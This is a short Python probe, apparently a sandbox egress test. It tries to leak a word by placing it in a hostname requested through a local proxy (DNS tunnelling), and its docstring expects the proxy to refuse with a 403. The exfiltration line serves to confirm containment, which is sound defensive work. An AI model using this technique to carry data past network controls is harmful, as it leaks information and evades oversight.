"""Tries: to carry a word out in a name, which whoever answers for the domain would be asked for (DNS tunnelling).
Meets: 403: no name is looked up but those of the version.
"""

import http.client


def main(word, domain):
    proxy = http.client.HTTPConnection("127.0.0.1", 3128)
    proxy.request("CONNECT", f"{word}.{domain}")
    return proxy.getresponse().status
